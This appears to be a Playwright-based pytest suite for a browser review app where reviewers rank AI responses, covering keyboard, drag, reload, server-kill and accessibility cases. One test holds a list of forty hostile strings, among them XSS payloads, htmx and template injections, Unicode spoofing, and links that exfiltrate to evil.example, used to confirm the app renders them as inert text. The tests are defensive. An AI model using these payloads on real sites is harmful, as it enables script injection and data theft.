"""The app in a real browser: by keyboard and by drag, through a reload and a kill, with hostile texts, and for everybody."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from review_helpers import ReviewServer, rollout_of, some_rollouts, write_run

from optimizers.labelled import Label, read_labelled

pytestmark = pytest.mark.browser
AXE = Path(__file__).parent / "vendor" / "axe.min.js"
NAMES = "PQRS"


class Window:
    """A browser window on the app: its page, what it asked for, and what its console said."""

    def __init__(self, context: Any) -> None:
        self.tab = context.new_page()
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.tab.on("request", lambda request: self.requests.append(request.url))
        self.tab.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))
        self.tab.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.tab.on(
            "console",
            lambda said: self.complaints.append(said.text) if said.type in ("error", "warning") else None,
        )

    def names(self) -> dict[str, str]:
        """Return the letters on the page with the candidates behind them, told by their texts."""
        cards = self.tab.locator("#work .option")
        return {
            str(cards.nth(i).get_attribute("data-letter")): cards.nth(i)
            .locator(".text")
            .inner_text()
            .split()[1]
            for i in range(cards.count())
        }

    @property
    def item(self) -> str:
        """The id of the item on the page."""
        return str(self.tab.locator("#work input[name=item]").input_value())

    def rank_by_keys(self, groups: list[str]) -> None:
        """Give each candidate its rank with digits alone, in the order of the page."""
        ranks = _ranks(groups)
        for name in self.names().values():
            self.tab.keyboard.press(str(ranks[name]))

    def rank_by_drag(self, groups: list[str]) -> None:
        """Drag each letter onto its rank."""
        ranks = _ranks(groups)
        for letter, name in self.names().items():
            grip = self.tab.locator(f"#work .head .grip[data-letter={letter}]")
            grip.scroll_into_view_if_needed()
            slot = self.tab.locator(f"#work .slot[data-rank='{ranks[name]}']")
            start, end = grip.bounding_box(), slot.bounding_box()
            mouse = self.tab.mouse
            mouse.move(start["x"] + 8, start["y"] + 8)
            mouse.down()
            mouse.move(end["x"] + 20, end["y"] + 15, steps=6)
            mouse.up()

    def submit(self) -> None:
        """Press Enter and wait until another item is there."""
        before = self.item
        self.tab.keyboard.press("Enter")
        self.tab.locator(f"#work input[name=item]:not([value='{before}']), #work .done").first.wait_for(
            state="attached"
        )


def _ranks(groups: list[str]) -> dict[str, int]:
    return {name: rank for rank, group in enumerate(groups, 1) for name in group}


@pytest.fixture
def window(chromium: Any) -> Iterator[Callable[..., Window]]:
    """Return a function that opens a window on an address."""
    contexts = []

    def opened(url: str, *, width: int = 1200, dark: bool = False, context: Any = None) -> Window:
        if context is None:
            context = chromium.new_context(
                viewport={"width": width, "height": 900}, color_scheme="dark" if dark else "light"
            )
            contexts.append(context)
        made = Window(context)
        made.tab.goto(url)
        return made

    yield opened
    for context in contexts:
        context.close()


ORDERS = [["P", "Q", "R", "S"], ["S", "Q", "PR"], ["QS", "PR"], ["R", "S", "P", "Q"], ["Q", "P", "S", "R"]]


def test_label_by_keyboard_and_drag_through_undo_reload_kill_and_a_second_reviewer(
    tmp_path: Path, window: Callable[..., Window]
) -> None:
    folder = write_run(tmp_path / "run", some_rollouts(18))
    clicked: dict[str, dict[str, list[str]]] = {"Ann": {}, "Bo": {}}
    with ReviewServer(folder, "--reviewer", "Ann") as server:
        ann = window(server.url)
        assert "token" not in ann.tab.url

        def keyboard(each: Window, name: str, number: int) -> None:
            groups = ORDERS[number % len(ORDERS)]
            clicked[name][each.item] = groups
            each.rank_by_keys(groups)
            each.submit()

        for number in range(5):
            keyboard(ann, "Ann", number)

        # z takes back a rank, then the answer before; a reload keeps what was entered
        taken_back = ann.item
        ann.tab.keyboard.press("1")
        ann.tab.keyboard.press("2")
        ann.tab.keyboard.press("z")
        assert ann.tab.locator("#work .chip").count() == 1
        ann.tab.reload()
        assert ann.item == taken_back
        assert ann.tab.locator("#work .chip").count() == 1, "the draft survives a reload"
        ann.tab.keyboard.press("z")
        assert ann.tab.locator("#work .chip").count() == 0
        ann.tab.keyboard.press("z")
        ann.tab.locator("#work .notice", has_text="taken back").wait_for()
        assert ann.item == list(clicked["Ann"])[-1]
        keyboard(ann, "Ann", 3)
        ann.tab.reload()
        assert ann.item == taken_back

        for number in range(5, 8):
            keyboard(ann, "Ann", number)
        assert ann.complaints == []
        server.kill()
        lost = ann.item
        ann.rank_by_keys(["PQRS"])
        ann.tab.keyboard.press("Enter")
        ann.tab.locator("#alert", has_text="cannot be reached").wait_for()
        assert ann.tab.locator("#work .chip").count() == 4, "what was entered stays on the page"

        server.start()
        ann.tab.goto(server.url)
        ann.complaints.clear()  # of a server that could not be reached
        ann.requests.clear()
        assert ann.item == lost, "an answer that was not confirmed is not there"
        for number in range(8, 12):
            keyboard(ann, "Ann", number)
        for number in range(3):
            clicked["Ann"][ann.item] = ORDERS[number]
            ann.rank_by_drag(ORDERS[number])
            assert ann.tab.locator("#work .chip").count() == 4
            ann.submit()
        ann.tab.locator("#count", has_text="15 of 18 answered").wait_for()

        bo = window(f"{server.url}")
        bo.tab.goto(f"{server.base}/rank?as=Bo")
        for number in range(2):
            keyboard(bo, "Bo", number)
        bo.tab.locator("#panel", has_text="over 2 shared items").wait_for()
        assert ann.complaints == bo.complaints == []
        assert all(url.startswith(server.base) for url in ann.requests + bo.requests)

    assert len(clicked["Ann"]) == 15
    _export(folder, tmp_path / "labelled.jsonl")
    found = {item.id: item.labels for item in read_labelled(tmp_path / "labelled.jsonl").items}
    expected: dict[str, list[Label]] = {}
    for name, items in clicked.items():
        for item, groups in items.items():
            order = tuple(tuple(sorted(NAMES.index(each) for each in group)) for group in groups)
            expected.setdefault(item, []).append(Label(rater=name, order=order))
    assert {item: set(labels) for item, labels in found.items()} == {
        item: set(labels) for item, labels in expected.items()
    }
    tuned = [
        sys.executable,
        "-m",
        "character",
        "optimize",
        tmp_path / "labelled.jsonl",
        "--strategy",
        "calibrate",
        "--budget",
        "300",
        "--json",
    ]
    done = subprocess.run([str(part) for part in tuned], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["strategy"] == "calibrate"


def _export(folder: Path, out: Path) -> None:
    command = [sys.executable, "-m", "character", "review", str(folder), "--export", str(out)]
    subprocess.run(command, check=True, capture_output=True)


def test_a_second_window_of_one_reviewer_is_told_while_it_is_open(
    tmp_path: Path, window: Callable[..., Window]
) -> None:
    folder = write_run(tmp_path / "run", some_rollouts(6))
    with ReviewServer(folder, "--reviewer", "Ann") as server:
        first = window(server.url)
        second = window(f"{server.base}/rank", context=first.tab.context)
        item = first.item
        assert second.item == item
        first.rank_by_keys(["P", "Q", "R", "S"])
        first.submit()
        second.tab.locator("#meanwhile", has_text="answered in another window").wait_for(timeout=15_000)
        second.rank_by_keys(["S", "R", "Q", "P"])
        second.tab.keyboard.press("Enter")
        second.tab.locator("#work .notice", has_text="the other one is kept").wait_for()
        second.tab.keyboard.press("z")
        second.tab.locator("#work .notice", has_text="taken back").wait_for()
        assert second.item == item
        server.stop(signal.SIGTERM)
    _export(folder, tmp_path / "labelled.jsonl")
    (labelled,) = read_labelled(tmp_path / "labelled.jsonl").items
    assert labelled.labels == (Label(rater="Ann", order=((0,), (1,), (2,), (3,))),)


def test_the_other_tasks_go_by_keyboard_alone(tmp_path: Path, window: Callable[..., Window]) -> None:
    folder = write_run(tmp_path / "run", some_rollouts(4))
    items = [
        {"id": f"e{i}", "trait": "patience", "turns": [{"role": "user", "content": "How?"}], "with_trait": "Slowly, together.", "without_trait": "Read it up."}
        for i in range(2)
    ]  # fmt: skip
    (folder / "effect_items.json").write_text(json.dumps({"items": items}), encoding="utf-8")
    with ReviewServer(folder, "--reviewer", "Ann") as server:
        tab = window(server.url).tab
        for task, keys in (
            ("compare", ["ArrowLeft"]),
            ("effect", ["ArrowRight", "n", "Enter"]),
            ("check", ["a", "j", "v", "Enter"]),
        ):
            tab.goto(f"{server.base}/{task}")
            tab.locator("#count", has_text="0 of").wait_for()
            for key in keys:
                tab.keyboard.press(key)
            tab.locator("#count", has_text="1 of").wait_for()
        tab.goto(f"{server.base}/effect")
        tab.keyboard.press("Enter")
        tab.locator("#alert", has_text="which one has the trait").wait_for()
        tab.goto(f"{server.base}/check")
        tab.locator("#work details.noted summary").nth(1).focus()
        tab.keyboard.press("Enter")
        tab.keyboard.press("Tab")
        tab.keyboard.type("as a joke, s and z are letters here")
        assert tab.locator("#work textarea").nth(1).input_value() == "as a joke, s and z are letters here"
        tab.keyboard.press("Escape")
        tab.keyboard.press("Enter")
        tab.locator("#count", has_text="2 of").wait_for()
        server.stop(signal.SIGTERM)


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 1</script>",
    "</div></article></form><script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    "' onmouseover='window.hacked=1",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror=window.hacked=1>",
    "<style>* { display: none !important }</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    '<p style="position:fixed;inset:0;background:url(//evil.example/a)">over everything</p>',
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Submit</button></form>",
    "<button hx-get=//evil.example hx-trigger=load>load</button>",
    "<div hx-on:click=window.hacked=1 data-hx-post=/rank hx-trigger=load>x</div>",
    "<div hx-ext='x' hx-vals='js:{a:window.hacked=1}' hx-get=/ hx-trigger=load></div>",
    "<input name=rank-A value=1 type=radio checked>",
    "<a href=javascript:window.hacked=1>click</a>",
    "[click](javascript:window.hacked=1)",
    "![a](https://evil.example/a.png?secret)",
    "[a]: https://evil.example 'title'",
    "https://evil.example/look",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "<!--", "-->", "]]>", "<![CDATA[<script>window.hacked=1</script>]]>",
    "<textarea><plaintext>",
    "&lt;script&gt; &amp;lt; &#60;b&#62;",
    "\u202e<gpj.exe \u2066\u2067 deppilf\u202c\u2069",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff and \U000e0041\U000e0042 tags",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <script>window.hacked=1</script> \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\x00\x01\x1b[31mred\x7f\x85\u2028\u2029",
    "Z\u0351\u036b\u0343" + "\u0301" * 500 + "algo",
    "x" * 2**20,
]  # fmt: skip


def test_forty_hostile_texts_are_shown_as_texts_and_run_nothing(
    tmp_path: Path, window: Callable[..., Window]
) -> None:
    assert len(HOSTILE) == 40
    made = [
        rollout_of(f"{text} message", [f"{text} first", f"second {text}", f"third {text} end"], sure=0.9)
        for text in HOSTILE
    ]
    with ReviewServer(write_run(tmp_path / "run", made), "--reviewer", "Ann") as server:
        opened = window(server.url)
        tab = opened.tab
        for _ in HOSTILE:
            item = opened.item
            rollout = next(each for each in made if each.message.id == item)
            assert rollout.candidates
            shown = {tab.locator("#work .option .text").nth(i).evaluate(_PLAIN_TEXT) for i in range(3)}
            assert shown == {_visible(text) for text in rollout.candidates.texts}
            assert tab.locator("#work .turn .text").evaluate(_PLAIN_TEXT) == _visible(rollout.message.text)
            assert tab.locator("#work .text :not(.mark, .more)").count() == 0, "no element but our own"
            assert tab.evaluate("() => window.hacked") is None
            assert tab.evaluate("() => document.documentElement.scrollWidth") <= 1200
            tab.keyboard.press("s")
            tab.locator(f"#work input[name=item]:not([value='{item}']), #work .done").first.wait_for(
                state="attached"
            )
        assert tab.locator("#work .done").count() == 1
        assert opened.complaints == []
        assert {url for url in opened.requests if not url.startswith(server.base)} == set()

        tab.goto(f"{server.base}/compare")
        assert tab.evaluate("() => window.hacked") is None
        tab.keyboard.press("z")
        server.stop(signal.SIGTERM)


_PLAIN_TEXT = """(element) => {
    const copy = element.cloneNode(true);
    for (const more of copy.querySelectorAll('.more')) more.remove();
    return copy.textContent;
}"""


def _visible(text: str) -> str:
    from character.review.texts import part_of

    return "".join(piece.mark or piece.text for piece in part_of(text).pieces)


def test_a_megabyte_in_one_line_is_read_part_by_part(tmp_path: Path, window: Callable[..., Window]) -> None:
    long = "0123456789" * 110_000
    made = [rollout_of("long", [long, f"{long}b", f"{long}c"])]
    with ReviewServer(write_run(tmp_path / "run", made), "--reviewer", "Ann") as server:
        tab = window(server.url).tab
        text = tab.locator("#work .option .text").first
        assert len(text.evaluate(_PLAIN_TEXT)) == 4_000
        for length in (24_000, 44_000):
            tab.locator("#work .option .more").first.click()
            tab.locator("#work .option .more", has_text=f"{length:,}").first.wait_for()
            assert text.evaluate(_PLAIN_TEXT) == long[:length]
        tab.keyboard.press("1")
        assert tab.locator("#work .chip").count() == 1
        server.stop(signal.SIGTERM)


@pytest.mark.parametrize(("lang", "dark"), [("en", False), ("zh", True)])
def test_no_serious_accessibility_fault_is_found(
    tmp_path: Path, window: Callable[..., Window], lang: str, dark: bool
) -> None:
    folder = write_run(tmp_path / "run", some_rollouts(6))
    items = [{"id": "e", "trait": "patience", "turns": [{"role": "user", "content": "How?"}], "with_trait": "Slowly.", "without_trait": "Go."}]  # fmt: skip
    (folder / "effect_items.json").write_text(json.dumps({"items": items}), encoding="utf-8")
    axe = AXE.read_text(encoding="utf-8")
    with ReviewServer(folder) as server:
        for width in (1200, 360):
            tab = window(server.url, width=width, dark=dark).tab
            for path in ("?who=1", "rank", "compare", "effect", "check", "rank?trait=nobody"):
                joined = "&" if "?" in path else "?"
                tab.goto(f"{server.base}/{path}{joined}lang={lang}" + ("" if "who" in path else "&as=Ann"))
                if "who" not in path:
                    tab.locator("#panel .panel").wait_for(state="attached")
                for key in "12av":
                    tab.keyboard.press(key)
                tab.evaluate(axe)
                found = tab.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
                grave = [
                    (each["id"], each["impact"], each["nodes"][0]["html"])
                    for each in found["violations"]
                    if each["impact"] in ("serious", "critical")
                ]
                assert grave == [], path
                assert tab.evaluate("() => document.documentElement.scrollWidth") <= width
        server.stop(signal.SIGTERM)
